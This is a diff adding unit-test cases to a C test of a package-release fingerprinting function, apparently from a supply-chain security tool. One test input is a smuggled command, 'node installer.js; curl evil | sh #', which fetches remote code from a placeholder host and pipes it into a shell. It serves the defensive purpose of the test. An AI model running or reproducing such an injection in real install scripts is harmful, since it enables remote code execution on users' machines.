@@ -385,6 +385,15 @@ static void test_content_in_fingerprints(void **state)
     sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("a-*.pth"), SB_S("1.0"), SB_S("x"), a);
     sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("a-1.0.pth"), SB_S("1.0"), SB_S("x"), b);
     assert_string_not_equal(a, b);
+    /* A release may not call itself what it wants to be left out. */
+    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("2"), SB_S("node install2.js"), a);
+    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("er.js; curl evil | sh #"),
+                   SB_S("node installer.js; curl evil | sh #.js"), b);
+    assert_string_not_equal(a, b);
+    /* Nor are digits within other digits its version. */
+    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("1"), SB_S("get 21"), a);
+    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("3"), SB_S("get 23"), b);
+    assert_string_not_equal(a, b);
 }
 
 /* One walk over both lists, however long. */
